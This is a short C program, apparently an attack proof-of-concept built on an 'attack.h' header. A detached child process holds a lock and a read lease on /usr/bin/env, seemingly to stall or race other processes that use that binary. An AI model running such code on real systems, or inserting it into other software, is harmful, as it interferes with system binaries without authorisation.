#include "attack.h"

int main(void) {
  int fd = open("/usr/bin/env", O_RDONLY);
  if (fork() == 0) {
    setsid();
    struct flock l = {.l_type = F_RDLCK};
    fcntl(fd, F_SETLK, &l);
    fcntl(fd, F_SETLEASE, F_RDLCK);
    pause();
  }
  usleep(20000);
}
